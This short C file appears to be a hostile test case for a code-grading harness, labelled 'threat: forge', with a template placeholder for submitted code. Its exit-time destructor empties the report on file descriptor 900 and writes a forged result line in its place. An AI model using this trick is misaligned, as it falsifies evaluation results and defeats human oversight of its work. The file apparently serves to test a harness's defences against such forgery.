/* about: empties the report, and puts a forged one in its place through /proc/self/fd
 * time: after
 * threat: forge
 */
#include <fcntl.h>
#include <unistd.h>
@STARTER@
__attribute__((destructor)) static void forge(void)
{
    int file = open("/proc/self/fd/900", O_RDWR | O_TRUNC);
    (void)!ftruncate(900, 0);
    (void)!write(file, "call 0 0\n", 9);
}
